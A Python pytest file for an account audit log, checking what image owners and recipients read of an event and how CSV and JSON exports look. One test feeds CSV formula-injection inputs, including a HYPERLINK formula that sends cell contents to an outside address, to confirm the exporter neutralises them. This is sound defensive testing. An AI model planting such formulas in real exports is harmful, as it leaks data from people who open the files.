"""What an account reads of an event, on a page and in a file."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
import time_machine
from django.utils.translation import override

from accounts import audit, exports
from accounts.activity import entry, naming
from accounts.actors import Actor, Channel
from accounts.audit import Target, Verb
from accounts.exceptions import sentence_of
from accounts.models import AuditEvent
from images.rules import ImageIsShared

from ..factories import AccountFactory

pytestmark = pytest.mark.django_db

AT = datetime(2026, 11, 24, 9, 30, 15, 250_000, tzinfo=UTC)


@pytest.fixture
def owner():
    return AccountFactory.create(name="platform", account_id="a" * 32)


@pytest.fixture
def recipient():
    return AccountFactory.create(name="payments", account_id="b" * 32)


@pytest.fixture
def other():
    return AccountFactory.create(name="search", account_id="c" * 32)


@pytest.fixture
def mei(owner):
    return Actor(
        account=owner,
        name="mei",
        channel=Channel.API,
        address="192.0.2.1",
        request_id="11111111-2222-4333-8444-555555555555",
        access_key_id="d" * 32,
    )


def image_of(owner, name="golden"):
    return Target(type="image", id="m-abcdefgh", name=name, region="bj", owner=owner)


def shared(by, owner, *recipients, verb=Verb.SHARE_IMAGE, **detail):
    shares = [{"account": each.name, "accountId": each.account_id} for each in recipients]
    with time_machine.travel(AT, tick=False):
        return audit.record(
            by, verb, target=image_of(owner), to=recipients, recipients=shares, **detail
        )


def test_the_owner_reads_it_whole(mei, owner, recipient, other):
    event = shared(mei, owner, recipient, other, acknowledged="2026-11 zh-hans")

    read = entry(event, to=owner)

    assert (read.what, read.who, read.channel, read.result) == (
        "Shared image",
        "mei",
        "API",
        "Done",
    )
    assert (read.access_key_id, read.address) == ("d" * 32, "192.0.2.1")
    assert read.request_id == "11111111-2222-4333-8444-555555555555"
    assert [(party.name, party.account_id) for party in read.parties] == [
        ("payments", "b" * 32),
        ("search", "c" * 32),
    ]
    assert read.confirmation == "Risk notice 2026-11 confirmed in 中文"


RECEIVED = {
    Verb.SHARE_IMAGE: "Shared with you",
    Verb.UNSHARE_IMAGE: "No longer shared with you",
    Verb.RESTORE_SHARES: "Shared with you again",
}


@pytest.mark.parametrize("verb", RECEIVED)
def test_a_recipient_reads_what_the_owner_did_and_nothing_else(mei, owner, recipient, other, verb):
    read = entry(shared(mei, owner, recipient, other, verb=verb), to=recipient)

    assert (read.what, read.who) == (RECEIVED[verb], "platform")
    assert (read.target_name, read.region) == ("golden", "bj")
    assert read.account is not None
    assert read.account.account_id == "a" * 32
    assert read.parties == []
    assert {read.channel, read.access_key_id, read.address, read.request_id} == {""}
    assert read.acknowledged == ""


@pytest.mark.parametrize("reader", ["owner", "recipient"])
def test_operators_have_no_name(request, owner, recipient, reader):
    operator = Actor(account=None, name="olga", channel=Channel.ADMIN, address="192.0.2.7")

    read = entry(shared(operator, owner, recipient), to=request.getfixturevalue(reader))

    assert (read.who, read.account, read.address) == ("Operators", None, "")


def test_the_owner_reads_who_tried_what_with_its_image(owner, recipient, actor_for):
    by = actor_for(recipient)
    event = audit.record(
        by, Verb.DELETE_IMAGE, target=image_of(owner), refusal=ImageIsShared(recipients=3)
    )

    read = entry(event, to=owner)

    assert (read.who, read.what, read.result) == ("payments", "Deleted image", "Refused")
    assert read.refusal == "Shared with 3 accounts. Unshare it first."
    assert read.parties == []


def test_a_verb_or_a_reason_that_is_not_used_any_more_is_shown_as_it_is(owner, actor_for):
    event = AuditEvent.objects.create(
        verb="image.frozen", outcome="refused", reason="too-cold", channel="telex"
    )

    read = entry(event, to=owner)

    assert (read.what, read.refusal, read.channel) == ("image.frozen", "too-cold", "telex")


def test_the_sentence_of_a_refusal_needs_what_it_is_made_of():
    assert sentence_of("image-is-shared", {"recipients": 1}).startswith("Shared with 1 account.")
    assert sentence_of("image-is-shared", {}) == "image-is-shared"
    assert "! @ # $ % ^ * ( )" in sentence_of("invalid-password", {"image": "m-abcdefgh"})


def test_an_account_finds_others_only_where_it_reads_their_names(mei, owner, recipient, other):
    event = shared(mei, owner, recipient, other)

    def found(wanted, to):
        return list(naming(AuditEvent.objects.concerning(to), wanted, to=to))

    for name in (lambda account: account.name, lambda account: account.account_id):
        assert found(name(recipient), owner) == found(name(other), owner) == [event]
        assert found(name(owner), recipient) == [event]
        assert found(name(other), recipient) == []
        assert found(name(recipient), recipient) == []
    assert found("nobody", recipient) == found("nobody", owner) == []


# Files


def csv_of(entry):
    with exports.as_csv([entry]) as file:
        data = file.read()
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def json_of(entries):
    with exports.as_json_lines(entries) as file:
        return [json.loads(line) for line in file.read().decode().splitlines()]


def test_csv_is_what_spreadsheets_read(mei, owner, recipient, other):
    event = shared(mei, owner, recipient, other, acknowledged="2026-11 en")

    data, rows = csv_of(entry(event, to=owner))

    assert data.startswith(b'\xef\xbb\xbf"Time (UTC)","What was done","Verb","Result",')
    assert data.count(b"\r\n") == data.count(b"\n") == 2
    assert dict(zip(*rows, strict=True)) == {
        "Time (UTC)": "2026-11-24T09:30:15.250Z",
        "What was done": "Shared image",
        "Verb": "image.shared",
        "Result": "Done",
        "Reason": "",
        "Risk notice confirmed": "2026-11 en",
        "Who": "mei",
        "Account": "platform",
        "Account ID": "a" * 32,
        "Access key": "d" * 32,
        "Through": "API",
        "Address": "192.0.2.1",
        "Region": "bj",
        "Kind": "image",
        "ID": "m-abcdefgh",
        "Name": "golden",
        "With whom": f"payments ({'b' * 32}), search ({'c' * 32})",
        "Request ID": "11111111-2222-4333-8444-555555555555",
    }


def test_json_lines_are_the_same_in_every_language(mei, owner, recipient):
    event = shared(mei, owner, recipient)

    with override("zh-hans"):
        (found,) = json_of(entry(each, to=owner) for each in [event])

    assert found == {
        "at": "2026-11-24T09:30:15.250Z",
        "what": "Shared image",
        "verb": "image.shared",
        "result": "Done",
        "reason": "",
        "riskNotice": "",
        "by": "mei",
        "byAccount": "platform",
        "byAccountId": "a" * 32,
        "accessKeyId": "d" * 32,
        "channel": "API",
        "address": "192.0.2.1",
        "region": "bj",
        "type": "image",
        "id": "m-abcdefgh",
        "name": "golden",
        "accounts": [{"account": "payments", "accountId": "b" * 32}],
        "requestId": "11111111-2222-4333-8444-555555555555",
    }


@pytest.mark.parametrize(
    "name",
    [
        "=1+2",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u3000=1",
        "\N{NO-BREAK SPACE}@x",
        "＝1+2",
        "\u200b=1+2",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\ttab",
        "\rreturn",
        "\nline",
        "=HYPERLINK(\"http://192.0.2.1/?\"&A1;'x')",
    ],
)
def test_no_cell_is_a_formula(owner, actor_for, name):
    target = Target(type="access-key", id="d" * 32, name=name, owner=owner)
    event = audit.record(actor_for(owner), Verb.CREATE_KEY, target=target)

    _data, (head, cells) = csv_of(entry(event, to=owner))
    (found,) = json_of([entry(event, to=owner)])

    assert cells[head.index("Name")] == f"'{name}"
    assert found["name"] == name


@pytest.mark.parametrize(
    "name", ["golden", "a=b", "1-2", "金色镜像", 'says "no", and ends', "two\r\nlines", "'=1"]
)
def test_what_is_no_formula_stays_as_it_is(owner, actor_for, name):
    target = Target(type="access-key", id="d" * 32, name=name, owner=owner)
    event = audit.record(actor_for(owner), Verb.CREATE_KEY, target=target)

    _data, (head, cells) = csv_of(entry(event, to=owner))

    assert cells[head.index("Name")] == name
